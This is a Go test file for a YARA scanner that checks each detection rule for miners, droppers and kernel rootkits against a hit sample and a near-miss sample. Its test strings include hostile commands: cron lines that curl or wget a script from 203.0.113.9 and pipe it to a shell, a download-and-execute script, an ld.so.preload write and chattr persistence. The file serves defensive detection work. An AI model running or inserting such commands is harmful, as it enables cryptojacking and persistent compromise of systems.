package yarascan

import (
	"slices"
	"strings"
	"testing"
)

const testWallet = "4AsnapscanTestWa11etNotRea1gHpPsmvpia2vWrGi4zB8QXxGRb7dG1oETJCxrRBqt59ggV991x1ErEBxBKMDbykhECmD"

func elf(s string) string { return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 56) + s }

// ko is an ELF relocatable object (e_type 1), what a kernel module is; a
// stock driver's names (probe/remove, its module name) are the near miss.
func ko(s string) string {
	return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 8) + "\x01\x00\x3e\x00" + strings.Repeat("\x00", 44) + s
}

const stockKo = "e1000_probe\x00e1000_remove\x00name=e1000\x00license=GPL\x00sys_call_table\x00init_module\x00cleanup_module\x00"

// Every embedded rule fires on a sample of what it is for and stays quiet on
// a near miss, the text a clean system plausibly holds.
func TestEmbeddedRuleSamples(t *testing.T) {
	r := compileEmbedded(t)
	sc, err := r.NewScanner(0)
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()
	cases := []struct {
		rule, hit, miss string
	}{
		{"SNAP_XMRig_Binary", elf("XMRig/6.21.0\x00--donate-level\x00"), "XMRig/6.21.0 --donate-level (a man page)"},
		{"SNAP_Miner_Binary_Generic", elf("stratum+tcp://%s\x00mining.subscribe\x00mining.authorize\x00"), "stratum+tcp:// mining.subscribe mining.authorize (protocol notes)"},
		{"SNAP_UPX_Packed_Executable", elf("UPX!\x00\x00UPX!\x00"), elf("UPX! mentioned once")},
		{"SNAP_Miner_Config_JSON", `{"donate-level": 1, "pools": [{"url": "p:3333", "user": "w", "algo": "rx/0"}]}`, `{"pools": [], "url": "https://example.org", "user": "bob"}`},
		{"SNAP_Miner_Config_INI", "url = stratum+tcp://pool.example.net:3333\nuser = 4AbCdEfGhJkMnPqRsTuVwXyZ\n", "url = https://pool.example.net/\nuser = 4AbCdEfGhJkMnPqRsTuVwXyZ\n"},
		{"SNAP_Miner_Commandline", "/opt/.x/kworker -o pool.example.net:3333 -u " + testWallet + " -k\n", "ssh -o host.example.net:22 -u bob\n"},
		{"SNAP_Stratum_URL", "connect stratum+ssl://pool.example.net:443", "the stratum protocol over tcp"},
		{"SNAP_Mining_Pool_Domain", "we block pool.minexmr.com", "we block example.com"},
		{"SNAP_Monero_Wallet", "wallet=" + testWallet + "\n", "wallet=" + strings.Replace(testWallet, "W", "0", 1) + "\n"},
		{"SNAP_Cron_Download_Exec", "*/5 * * * * root curl -fsSL http://203.0.113.9/a.sh | bash\n", "install: curl -fsSL https://example.org/install.sh | bash\n"},
		{"SNAP_Cron_Installer", `(crontab -l; echo "* * * * * wget -q -O- http://203.0.113.9/a | sh") | crontab -` + "\n", "crontab -l | grep wget\n"},
		{"SNAP_Script_Download_Exec", "#!/bin/sh\nwget http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m; /tmp/m\n", "#!/bin/sh\nwget http://example.org/m -O /usr/local/bin/m; chmod +x /usr/local/bin/m\n"},
		{"SNAP_Preload_Writer", "echo /usr/local/lib/libsystem.so > /etc/ld.so.preload\n", "cat /etc/ld.so.preload\n"},
		{"SNAP_Chattr_Persistence", "chattr +i /etc/crontab\n", "chattr +i /srv/data/archive\n"},
		{"SNAP_Miner_Killer_Script", "pkill -f xmrig\npkill -f kinsing\npkill -f kdevtmpfsi\n", "pkill -f xmrig\n"},
		{"SNAP_Miner_Dropper_Killer", "pkill -f xmrig; pkill -f kinsing\nchattr -i /etc/crontab\ncurl -s http://203.0.113.9/x | sh\n", "pkill -f xmrig; pkill -f kinsing\n"},
		{"SNAP_Kinsing_Dropper", "curl -s http://203.0.113.9/kinsing -o /tmp/kinsing\n", "# kinsing is a known miner family\n"},
		{"SNAP_Outlaw_Artifacts", "cd ~/.configrc5/a && ./run\n", "cd ~/.configrc && ./run\n"},
		{"SNAP_Cleanfda_Artifacts", "sh /etc/upat.sh\n", "/etc/httpd2 only\n"},
		{"SNAP_AliyunDuns_Artifacts", "ExecStart=/opt/sysetmd\n", "ExecStart=/opt/systemd\n"},
		{"SNAP_LKM_Diamorphine", ko("diamorphine_secret\x00hacked_kill\x00"), ko(stockKo + "module_show\x00give_root\x00")},
		{"SNAP_LKM_Reptile", ko("khook_inet_ioctl\x00khook_tcp4_seq_show\x00khook_filldir\x00"), ko(stockKo + "khook_filldir\x00")},
		{"SNAP_LKM_Suterusu", ko("suterusu\x00n_tcp4_seq_show\x00hijack_start\x00"), elf("suterusu\x00n_tcp4_seq_show\x00hijack_start\x00")},
		{"SNAP_LKM_Rootkit_Source", "#define MAGIC_PREFIX \"x_secret\"\nenum { SIGINVIS = 31, SIGSUPER = 64, SIGMODINVIS = 63 };\nhacked_getdents(", "#define MAGIC_PREFIX \"x\"\nSIGINVIS\n"},
		{"SNAP_LKM_Syscall_Hooker", ko("sys_call_table\x00orig_getdents64\x00hide_pid\x00"), ko(stockKo)},
		{"SNAP_Skidmap_Artifacts", "/usr/bin/systemd-deltaed\n", "/usr/bin/systemd-delta\n"},
	}
	covered := map[string]bool{}
	for _, tc := range cases {
		covered[tc.rule] = true
		for _, s := range []struct {
			data string
			want bool
		}{{tc.hit, true}, {tc.miss, false}} {
			ms, err := sc.Scan([]byte(s.data), Vars{})
			if err != nil {
				t.Fatal(err)
			}
			if got := slices.Contains(names(ms), tc.rule); got != s.want {
				t.Errorf("%s on %q: matched %v, want %v (all: %v)", tc.rule, s.data, got, s.want, names(ms))
			}
		}
	}
	for _, ri := range r.List() {
		if !covered[ri.Name] {
			t.Errorf("%s has no sample in this test", ri.Name)
		}
	}
}
